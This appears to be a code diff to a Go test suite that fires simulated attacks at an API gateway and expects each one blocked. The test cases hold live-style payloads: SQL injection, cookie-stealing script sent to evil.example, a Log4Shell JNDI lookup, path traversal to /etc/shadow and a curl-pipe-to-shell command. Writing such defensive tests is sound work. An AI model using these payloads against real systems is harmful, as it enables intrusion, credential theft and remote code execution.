@@ -43,6 +43,7 @@ type Attacker struct {
 	Good                  string // target of a GET that is allowed
 	Create                string // target of a POST that takes a JSON object
 	CreateBody            string // a body that Create accepts
+	Text                  string // name of a free text in it
 	Forbidden             string // target of a DELETE that Reader's scopes don't cover
 }
 
@@ -171,8 +172,8 @@ func Attacks() []Attack {
 	}
 	same := func(a *Attacker) string { return a.Good }
 	query := func(q string) func(*Attacker) string { return func(a *Attacker) string { return a.Good + "?" + q } }
-	field := func(name string, value any) func(*Attacker) string {
-		return func(a *Attacker) string { return withField(a.CreateBody, name, value) }
+	field := func(value any) func(*Attacker) string {
+		return func(a *Attacker) string { return withField(a.CreateBody, a.Text, value) }
 	}
 	header := func(name, value string) change {
 		return func(r *http.Request) { r.Header.Set(name, value) }
@@ -188,7 +189,7 @@ func Attacks() []Attack {
 		{"undeclared-method", sallyport.StageIdentify, []int{405}, func(ctx context.Context, a *Attacker) (Seen, error) {
 			return a.good(ctx, http.MethodPatch, a.Good, "{}")
 		}},
-		{"undeclared-path", sallyport.StageIdentify, []int{404}, get(func(*Attacker) string { return "/v4/internal/debug/vars" })},
+		{"encoded-dot-segments", sallyport.StageIdentify, []int{400, 403}, get(func(*Attacker) string { return "/v4/images/%2e%2e/%2e%2e/etc/passwd" })},
 		{"client-burst", sallyport.StageLimit, []int{429}, func(ctx context.Context, a *Attacker) (Seen, error) {
 			c := a.client("127.0.0.67")
 			defer c.CloseIdleConnections()
@@ -243,27 +244,27 @@ func Attacks() []Attack {
 				return a.send(c, req)
 			})
 		}},
-		{"body-wrong-type", sallyport.StageValidate, []int{400, 422}, post(field("label", []int{1, 2}))},
-		{"body-not-json", sallyport.StageValidate, []int{400}, post(func(*Attacker) string { return `{"label": ` })},
+		{"body-wrong-type", sallyport.StageValidate, []int{400, 422}, post(field([]int{1, 2}))},
+		{"body-not-json", sallyport.StageValidate, []int{400}, post(func(*Attacker) string { return `{"summary": ` })},
 		{"body-duplicate-key", sallyport.StageValidate, []int{400}, post(func(a *Attacker) string {
-			return `{"label": "a", "label": "b"` + strings.Replace(a.CreateBody, "{", ",", 1)
+			return `{"` + a.Text + `": "a", ` + strings.Replace(a.CreateBody, "{", "", 1)
 		})},
-		{"body-nested-too-deep", sallyport.StageValidate, []int{400, 422}, post(func(*Attacker) string {
-			return `{"tags": ` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + `}`
+		{"body-nested-too-deep", sallyport.StageValidate, []int{400, 422}, post(func(a *Attacker) string {
+			return withField(a.CreateBody, a.Text, json.RawMessage(strings.Repeat("[", 5000)+strings.Repeat("]", 5000)))
 		})},
 		{"body-oversize", sallyport.StageValidate, []int{413}, post(func(a *Attacker) string {
-			return withField(a.CreateBody, "label", strings.Repeat("a", 12<<20))
+			return withField(a.CreateBody, a.Text, strings.Repeat("a", 12<<20))
 		})},
 		{"parameter-wrong-type", sallyport.StageValidate, []int{400, 422}, get(query("page=first"))},
 		{"parameter-twice", sallyport.StageValidate, []int{400, 422}, get(query("page=1&page=2"))},
 	}, []Attack{
-		{"sql-injection-body", sallyport.StageInspect, []int{403}, post(field("label", "x' OR '1'='1' UNION SELECT login, secret FROM accounts -- "))},
+		{"sql-injection-body", sallyport.StageInspect, []int{403}, post(field("x' OR '1'='1' UNION SELECT login, secret FROM accounts -- "))},
 		{"sql-injection-header", sallyport.StageInspect, []int{403}, get(same, header("X-Filter", "1; DROP TABLE tenants--"))},
-		{"script-injection-body", sallyport.StageInspect, []int{403}, post(field("label", `"><svg onload=fetch('//evil.example/'+document.cookie)>`))},
+		{"script-injection-body", sallyport.StageInspect, []int{403}, post(field(`"><svg onload=fetch('//evil.example/'+document.cookie)>`))},
 		{"log4shell-header", sallyport.StageInspect, []int{403}, get(same, header("User-Agent", "${jndi:${lower:l}dap://evil.example/a}"))},
-		{"path-traversal-body", sallyport.StageInspect, []int{403}, post(field("label", "../../../../etc/shadow"))},
-		{"command-injection-body", sallyport.StageInspect, []int{403}, post(field("label", "web; curl http://evil.example/x.sh | sh"))},
-		{"template-injection-body", sallyport.StageInspect, []int{403}, post(field("label", "{{ ''.__class__.__mro__[1].__subclasses__() }}"))},
+		{"path-traversal-body", sallyport.StageInspect, []int{403}, post(field("../../../../etc/shadow"))},
+		{"command-injection-body", sallyport.StageInspect, []int{403}, post(field("web; curl http://evil.example/x.sh | sh"))},
+		{"template-injection-body", sallyport.StageInspect, []int{403}, post(field("{{ ''.__class__.__mro__[1].__subclasses__() }}"))},
 	})
 }
 
